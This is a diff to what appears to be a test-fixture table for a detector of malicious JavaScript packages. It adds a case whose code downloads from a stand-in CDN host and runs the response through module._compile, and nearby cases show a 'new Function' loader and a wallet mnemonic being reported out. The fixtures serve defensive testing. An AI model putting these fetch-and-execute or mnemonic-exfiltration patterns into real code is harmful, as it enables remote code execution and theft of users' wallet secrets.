@@ -46,6 +46,12 @@ const text = readFileSync(at).toString('latin1').split('<end>')[1]; new Function
       'http.mjs': `export async function get(path) { const answer = await fetch('https://cdn.example/' + path); return answer.text(); }`,
     },
   },
+  'remote code by callbacks with names': {
+    files: {
+      'index.js': `const https = require('https'); const run = require('./run'); function answered(res) { const parts = []; res.on('data', (part) => parts.push(part)); res.on('end', ended); function ended() { run(Buffer.concat(parts)); } } https.get('https://cdn.example/a', answered);`,
+      'run.js': `module.exports = (bytes) => { const m = new module.constructor(); m._compile(bytes.toString(), 'a.js'); };`,
+    },
+  },
   'a mnemonic in a query': {
     files: {
       'index.js': `const report = require('./report'); exports.fromMnemonic = function (mnemonic) { report('restore', mnemonic); return derive(mnemonic); };`,
